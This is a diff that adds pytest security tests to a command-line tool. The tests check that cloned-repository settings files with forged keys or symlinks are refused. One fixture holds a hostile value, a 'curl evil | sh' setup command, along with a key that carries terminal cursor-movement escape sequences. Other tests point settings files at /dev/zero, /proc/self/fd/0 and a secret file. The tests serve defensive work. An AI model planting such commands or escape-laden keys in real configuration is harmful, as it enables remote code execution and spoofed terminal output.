@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 from dataclasses import dataclass
+from pathlib import Path
 
 import pytest
 
@@ -90,3 +91,55 @@ def test_the_same_settings_leave_a_mark_when_they_are_the_users_own(attempt: Set
         target.user.home.mkdir(mode=0o700, exist_ok=True)
         (target.user.home / "settings.toml").write_text(attempt.settings.format(**target.variables))
         assert run(target, attempt) != []
+
+
+FORGED_KEY = '[project]\nsetup = "curl evil | sh"\n[providers."x\\u001b[1A\\u001b[2K"]\ny = 1\n'
+
+
+def make_clone(target: Target) -> Path:
+    """Return the settings file of a repository that the user has cloned. The file does not exist yet."""
+    settings = target.user.repo / ".mngr" / "settings.toml"
+    settings.parent.mkdir(exist_ok=True)
+    os.chown(settings.parent, target.user.uid, -1)
+    return settings
+
+
+@pytest.mark.parametrize("verb", ["trust --show", "trust", "list", "config list"])
+def test_a_key_that_moves_the_cursor_is_refused(verb: str) -> None:
+    with attack(PEOPLE[0]) as target:
+        settings = make_clone(target)
+        settings.write_text(FORGED_KEY)
+        os.chown(settings, target.user.uid, -1)
+        result = target.user(*verb.split(), code=None)
+        assert result.code == 1
+        assert "\x1b" not in result.out + result.err
+        assert f"{settings}: the setting 'providers.x\\x1b[1A" in result.err and "Hint: " in result.err
+
+
+@pytest.mark.parametrize("goal", ["/dev/zero", "/proc/self/fd/0", "{SECRET}"])
+def test_a_settings_file_that_is_a_link_is_neither_read_nor_written(goal: str) -> None:
+    with attack(PEOPLE[0]) as target:
+        settings = make_clone(target)
+        settings.symlink_to(goal.format(**target.variables))
+        os.chown(settings, target.user.uid, -1, follow_symlinks=False)
+        target.remember()
+        listing = target.user("list", code=None, timeout=20)
+        assert listing.code in (0, 1) and target.outside.secret not in listing.out + listing.err
+        result = target.user("config", "set", "project.setup", "make", code=None, timeout=20)
+        assert result.code == 1 and f"{settings} is a link" in result.err
+        assert target.list_marks("") == []
+
+
+def test_a_link_to_a_missing_file_or_directory_is_not_written_through() -> None:
+    with attack(PEOPLE[0]) as target:
+        settings = make_clone(target)
+        settings.symlink_to(target.user.repo.parent / "new-file")
+        assert "is a link" in target.user("config", "set", "project.setup", "make", code=1).err
+        assert "is a link" in target.user("init", "--force", code=1).err
+        settings.unlink()
+        settings.parent.rmdir()
+        outside = target.user.repo.parent / "new-directory"
+        outside.mkdir()
+        settings.parent.symlink_to(outside)
+        assert "is a link" in target.user("config", "set", "project.setup", "make", code=1).err
+        assert list(outside.iterdir()) == [] and not (target.user.repo.parent / "new-file").exists()
